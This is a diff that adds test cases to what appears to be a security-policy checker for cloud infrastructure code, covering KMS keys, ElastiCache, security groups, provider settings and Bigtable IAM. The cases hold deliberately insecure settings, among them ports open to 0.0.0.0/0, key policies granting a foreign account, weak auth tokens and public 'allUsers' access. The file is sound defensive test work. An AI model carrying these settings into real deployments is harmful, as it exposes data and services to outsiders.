+        absent=aws("kms", (*P, "deletionWindowInDays")),
+        safe="AWS gives the key to its account",
+        more=(
+            aws("kms", (*P, "bypassPolicyLockoutSafetyCheck"), True),
+            aws("kms", (*P, "policy"), "{}"),
+            aws("kms", (*P, "policy"), document({"Effect": "Allow", "Principal": {"AWS": "999999999999"}})),
+        ),
+    ),
+    "kms-available": Case(
+        bad=aws("kms", (*P, "isEnabled"), False),
+        absent=aws("kms", (*P, "deletionWindowInDays")),
+        safe="AWS waits 30 days",
+        more=(
+            aws("kms", (*P, "deletionWindowInDays"), 7),
+            aws("kms", (*P, "keyUsage"), "SIGN_VERIFY"),
+        ),
+    ),
+    "kms-account": Case(
+        bad=aws("table", (*P, "serverSideEncryption", "kmsKeyArn"), "arn:aws:kms:eu-west-1:999999999999:key/1"),
+        absent=aws("table", (*P, "serverSideEncryption", "kmsKeyArn")),
+        safe="AWS takes a key of the account",
+        more=(aws("redis", (*P, "kmsKeyId"), "arn:aws:kms:eu-west-1:999999999999:key/1"),),
+    ),
+    "elasticache-failover": Case(
+        bad=aws("redis", (*P, "multiAzEnabled"), False),
+        absent=aws("redis", (*P, "multiAzEnabled")),
+        more=(
+            aws("redis", (*P, "automaticFailoverEnabled")),
+            aws("redis", (*P, "replicasPerNodeGroup"), 0),
+            aws("redis", (*P, "replicasPerNodeGroup")),
+        ),
+    ),
+    "elasticache-eviction": Case(
+        bad=aws("parameters", (*P, "parameters", 1, "value"), "allkeys-lru"),
+        absent=aws("parameters", (*P, "parameters", 1)),
+        more=(
+            aws("parameters", (*P, "parameters", 1, "value"), "volatile-lru"),
+            aws("redis", (*P, "parameterGroupName"), "default.valkey8"),
+            aws("redis", (*P, "parameterGroupName")),
+        ),
+    ),
+    "security-group-wide": Case(
+        bad=aws("opening", (*P, "cidrIpv4"), "0.0.0.0/0"),
+        absent=aws("opening", (*P, "ipProtocol")),
+        more=(
+            aws("opening", (*P, "cidrIpv4"), "10.0.0.0/8"),
+            aws("opening", (*P, "cidrIpv4"), "8.8.8.0/24"),
+            aws("opening", (*P, "cidrIpv6"), "::/0"),
+            aws("opening", (*P, "ipProtocol"), "-1"),
+            aws("opening", (*P, "fromPort"), 0),
+            aws("opening", (*P, "toPort"), 65535),
+            aws("opening", (*P, "toPort")),
+        ),
+    ),
+    "cloud-data-protected": Case(
+        bad=aws("table", ("protect",), False),
+        absent=aws("table", ("protect",)),
+        more=(
+            aws("bucket", ("protect",), False),
+            aws("kms", ("protect",), False),
+            aws("redis", ("protect",), False),
+            aws("instance", ("protect",), False),
+            aws("groups", ("protect",), False),
+            aws("bucket", (*P, "forceDestroy"), True),
+        ),
+    ),
+    "provider-options": Case(
+        bad=aws("provider", (*P, "skipCredentialsValidation"), "true"),
+        absent=aws("provider", (*P, "allowedAccountIds")),
+        more=(
+            aws("provider", (*P, "insecure"), "true"),
+            aws("provider", (*P, "endpoints"), '[{"s3": "http://a.test"}]'),
+            aws("provider", (*P, "secretKey"), "horse"),
+            aws("provider", (*P, "bigtableCustomEndpoint"), "https://a.test"),
+        ),
+    ),
     "elasticache-transit": Case(
         bad=aws("redis", (*P, "transitEncryptionEnabled"), False),
         absent=aws("redis", (*P, "transitEncryptionEnabled")),
@@ -512,7 +1076,11 @@ CASES: dict[str, Case] = {
     "elasticache-authentication": Case(
         bad=aws("redis", (*P, "authToken"), ""),
         absent=aws("redis", (*P, "authToken")),
-        more=(aws("redis", ("type",), "aws:elasticache/serverlessCache:ServerlessCache"),),
+        more=(
+            aws("redis", ("type",), "aws:elasticache/serverlessCache:ServerlessCache"),
+            aws("redis", (*P, "authToken"), "password"),
+            aws("redis", (*P, "authToken"), "a" * 40),
+        ),
     ),
     "aws-tags": Case(bad=aws("kms", (*P, "tags"), {"project": "shop"}), absent=aws("kms", (*P, "tags"))),
     # --- Bigtable
@@ -528,6 +1096,22 @@ CASES: dict[str, Case] = {
     "bigtable-backup": Case(
         bad=aws("groups", (*P, "automatedBackupPolicy", "retentionPeriod"), "0"),
         absent=aws("groups", (*P, "automatedBackupPolicy")),
+    ),
+    "bigtable-access": Case(
+        bad=aws("member", (*P, "member"), "allUsers"),
+        absent=aws("member", (*P, "member")),
+        more=(
+            aws("member", (*P, "role"), "roles/bigtable.admin"),
+            aws("member", (*P, "role")),
+            aws("member", (*P, "member"), "allAuthenticatedUsers"),
+            aws("member", (*P, "member"), "user:somebody@example.org"),
+            aws(
+                "member",
+                (*P, "member"),
+                "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/shop/*",
+            ),
+            aws("member", ("type",), "gcp:projects/iAMMember:IAMMember"),
+        ),
     ),
     # --- certificates
     "tls-key": Case(
@@ -557,6 +1141,7 @@ CASES: dict[str, Case] = {
         more=(on("leaf", (*P, "allowedUses")), on("leaf", (*P, "allowedUses"), ["any_extended", "server_auth"])),
     ),
     "tls-names": Case(
+        also=frozenset({"ingress-hosts", "ingress-scope"}),
         bad=on("request", (*P, "dnsNames"), ["*.other.test"]),
         absent=on("request", (*P, "dnsNames")),
         more=(
